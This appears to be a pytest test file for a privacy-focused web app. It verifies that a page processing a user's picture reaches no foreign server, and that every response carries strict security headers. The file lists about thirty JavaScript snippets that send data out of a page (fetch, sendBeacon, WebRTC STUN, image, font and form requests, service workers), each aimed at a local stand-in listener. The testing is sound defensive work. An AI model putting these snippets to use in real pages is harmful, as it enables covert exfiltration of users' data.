"""Ways to get a picture out of the page that holds it, each tried against listening servers.

The browser's word is not taken for it: `sendBeacon` answers true although it was blocked. What
counts is what arrives. The scripts stand for a page of ours that lies, or was made to.
"""

import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from django.conf import settings
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as BrowserError

from tests.journeys.page_stand import Stand, page_stand
from unspread.page_headers import headers_for

pytestmark = pytest.mark.journey

WAYS = {
    "fetch": "fetch(url, { method: 'POST', body: 'pixels', mode: 'no-cors' })",
    "fetch keepalive": "fetch(url, { method: 'POST', body: 'pixels', keepalive: true })",
    "XMLHttpRequest": (
        "(() => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('pixels'); })()"
    ),
    "beacon": "navigator.sendBeacon(url, 'pixels')",
    "WebSocket": "new WebSocket(url.replace('http', 'ws'))",
    "EventSource": "new EventSource(url)",
    "WebTransport": "new WebTransport(url.replace('http:', 'https:'))",
    "image": "{ new Image().src = url }",
    "image in a set": "{ const i = new Image(); i.srcset = url + ' 1x'; document.body.append(i) }",
    "style sheet": (
        "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url;"
        " document.head.append(l) }"
    ),
    "style attribute": "document.body.style.backgroundImage = `url(${url})`",
    "font": "new FontFace('f', `url(${url})`).load()",
    "script": (
        "{ const s = document.createElement('script'); s.setAttribute('src', url);"
        " document.head.append(s) }"
    ),
    "import": "import(url)",
    "frame": (
        "{ const f = document.createElement('iframe'); f.src = url; document.body.append(f) }"
    ),
    "prefetch": (
        "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url;"
        " document.head.append(l) }"
    ),
    "preconnect": (
        "{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = url;"
        " document.head.append(l) }"
    ),
    "audio": "{ new Audio(url).play() }",
    "object": (
        "{ const o = document.createElement('object'); o.data = url; document.body.append(o) }"
    ),
    "form": (
        "{ const f = document.createElement('form'); f.method = 'POST'; f.action = url;"
        " document.body.append(f); f.submit() }"
    ),
    "ping of a link": (
        "{ const a = document.createElement('a'); a.href = '#x'; a.ping = url;"
        " document.body.append(a); a.click() }"
    ),
    "link": "{ const a = document.createElement('a'); a.href = url; a.click() }",
    "new window": "window.open(url)",
    "navigation": "location.href = url",
    "refresh": (
        "{ const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        " m.content = '0;url=' + url; document.head.append(m) }"
    ),
    "WebRTC": (
        "(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] });"
        " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) })()"
    ),
    "worker from a blob": (
        "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`])))"
    ),
    "service worker": "navigator.serviceWorker.register(url)",
}

WORKER_WAYS = {
    name: WAYS[name]
    for name in ("fetch", "fetch keepalive", "XMLHttpRequest", "WebSocket", "EventSource", "import")
} | {"importScripts": "importScripts(url)"}

OPEN_TO_OURSELVES = {
    "image": "{ new Image().src = own + 'image' }",
    "module": "import(own + 'module')",
    "navigation": "location.href = own + 'navigation'",
}
"""What stays open, to our own server alone: a page must load its own parts. The visible text, the
airplane mode and `unspread verify-site` stand against it; the page "How do I know?" says so."""


@dataclass
class Listener:
    """A foreign server for HTTP, and one for STUN, and what arrived at them."""

    url: str = ""
    stun: str = ""
    arrived: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def foreign() -> Iterator[Listener]:
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.arrived.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_args: object) -> None:
            """Says nothing."""

    for method in ("POST", "OPTIONS", "HEAD"):
        setattr(Handler, f"do_{method}", Handler.do_GET)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.url = f"http://127.0.0.1:{server.server_port}/"
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    listener.stun = f"stun:127.0.0.1:{udp.getsockname()[1]}"

    def receive() -> None:
        while udp.recv(2048) != b"end":
            listener.arrived.append("/WebRTC")

    threads = [
        threading.Thread(target=server.serve_forever, daemon=True),
        threading.Thread(target=receive, daemon=True),
    ]
    for thread in threads:
        thread.start()
    yield listener
    server.shutdown()
    server.server_close()
    udp.sendto(b"end", udp.getsockname())
    threads[1].join(10)
    udp.close()


@pytest.fixture(scope="module")
def stand(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    with page_stand(tmp_path_factory.mktemp("pages")) as stand:
        yield stand


@pytest.fixture(scope="module")
def pages(chromium: Browser, stand: Stand) -> Iterator[list[Page]]:
    """One page for all ways that leave it where it is; opening one is most of a test's time."""
    kept: list[Page] = []
    yield kept
    for page in kept:
        page.close()


@pytest.fixture
def page(chromium: Browser, stand: Stand, pages: list[Page]) -> Page:
    address = f"{stand.url}/en/begin"
    if pages and not (pages[-1].url == address and pages[-1].workers):
        pages.pop().close()
    if not pages:
        page = chromium.new_page()
        with page.expect_worker():
            page.goto(address)
        pages.append(page)
    return pages[-1]


SETTLE = "new Promise((resolve) => setTimeout(resolve, 200))"
"""A blocked attempt leaves no event to wait for."""


def attempt(way: str, name: str, foreign: Listener, *, own: str = "") -> str:
    values = f"const url = '{foreign.url}{name.replace(' ', '-')}', stun = '{foreign.stun}';"
    return (
        f"async () => {{ {values} const own = '{own}'; try {{ {way} }} catch {{}} await {SETTLE} }}"
    )


@pytest.mark.parametrize("name", WAYS)
def test_the_page_that_reads_pictures_reaches_no_other_server(
    page: Page, foreign: Listener, name: str
) -> None:
    foreign.arrived.clear()
    try:
        page.evaluate(attempt(WAYS[name], name, foreign))
    except BrowserError:
        # A navigation takes the page, and this evaluation, with it: to the browser's own error.
        page.wait_for_load_state()
    assert foreign.arrived == []


@pytest.mark.parametrize("name", WORKER_WAYS)
def test_the_worker_that_reads_pictures_reaches_no_other_server(
    page: Page, foreign: Listener, name: str
) -> None:
    foreign.arrived.clear()
    (worker,) = page.workers
    assert worker.url.endswith("/page/fingerprint/worker.js")
    worker.evaluate(attempt(WORKER_WAYS[name], name, foreign))
    assert foreign.arrived == []


@pytest.mark.parametrize("name", OPEN_TO_OURSELVES)
def test_what_stays_open_reaches_our_own_server_alone(
    page: Page, stand: Stand, foreign: Listener, name: str
) -> None:
    foreign.arrived.clear()
    stand.requests.clear()
    own = f"{stand.url}/page/leak?"
    try:
        page.evaluate(attempt(OPEN_TO_OURSELVES[name], name, foreign, own=own))
    except BrowserError:
        page.wait_for_load_state()
    assert any(path == f"/page/leak?{name}" for _, path, _ in stand.requests)
    assert foreign.arrived == []


def test_the_listeners_hear_what_an_open_page_sends(
    chromium: Browser, stand: Stand, foreign: Listener
) -> None:
    foreign.arrived.clear()
    page = chromium.new_page()
    page.goto(foreign.url)
    for name in ("fetch", "image", "WebRTC"):
        page.evaluate(attempt(WAYS[name], name, foreign))
    assert {"/fetch", "/image", "/WebRTC"} <= set(foreign.arrived)
    page.close()


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        pytest.param("GET", "/", 302, id="redirect"),
        pytest.param("GET", "/en/", 200, id="page"),
        pytest.param("HEAD", "/ar/begin", 200, id="head of a page"),
        pytest.param("GET", "/en/begin?x=1", 200, id="with a query"),
        pytest.param("GET", "/page/ui/begin.js", 200, id="script"),
        pytest.param("GET", "/page/fingerprint/worker.js", 200, id="worker"),
        pytest.param("GET", "/page/ui/icon.svg", 200, id="icon"),
        pytest.param("GET", "/favicon.ico", 200, id="icon that nobody linked"),
        pytest.param("GET", "/leave", 200, id="leaving"),
        pytest.param("GET", "/page/none.js", 404, id="no such script"),
        pytest.param("GET", "/xx/", 404, id="no such language"),
        pytest.param("GET", "/en/begin/", 404, id="with a slash more"),
        pytest.param("GET", "/en/%ff%00", 404, id="no text"),
        pytest.param("POST", "/en/begin", 405, id="page posted to"),
        pytest.param("PUT", "/page/ui/begin.js", 405, id="script put"),
        pytest.param("GET", "/v1/cases", 404, id="form fetched"),
        pytest.param("GET", "/ar/now", 500, id="failure of ours"),
    ],
)
def test_every_response_carries_the_strict_headers(
    stand: Stand, monkeypatch: pytest.MonkeyPatch, method: str, path: str, status: int
) -> None:
    if status == 500:
        monkeypatch.setattr(settings, "UNSPREAD_PAGES", None)
    answer = httpx.request(method, stand.url + path)
    assert answer.status_code == status
    wanted = headers_for(path.partition("?")[0])
    assert wanted["Content-Security-Policy"].startswith("default-src 'none'")
    assert "unsafe-inline" not in wanted["Content-Security-Policy"]
    assert wanted["Referrer-Policy"] == "no-referrer"
    assert wanted["Cache-Control"] == "no-store"
    assert {name: answer.headers.get(name) for name in wanted} == wanted
    assert "set-cookie" not in answer.headers
